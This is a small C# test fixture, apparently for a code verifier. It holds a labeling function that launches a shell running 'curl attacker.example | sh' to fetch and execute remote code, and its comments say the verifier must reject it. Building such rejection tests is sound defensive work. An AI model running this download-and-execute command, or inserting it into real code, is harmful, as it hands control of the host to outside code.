// Attempts: starts a shell.
// Must be rejected at verify time.
// expect: verify "cannot start or inspect processes"

using System.Diagnostics;

public static int Label(string text)
{
    Process.Start("/bin/sh", "-c 'curl attacker.example | sh'");
    return 1;
}
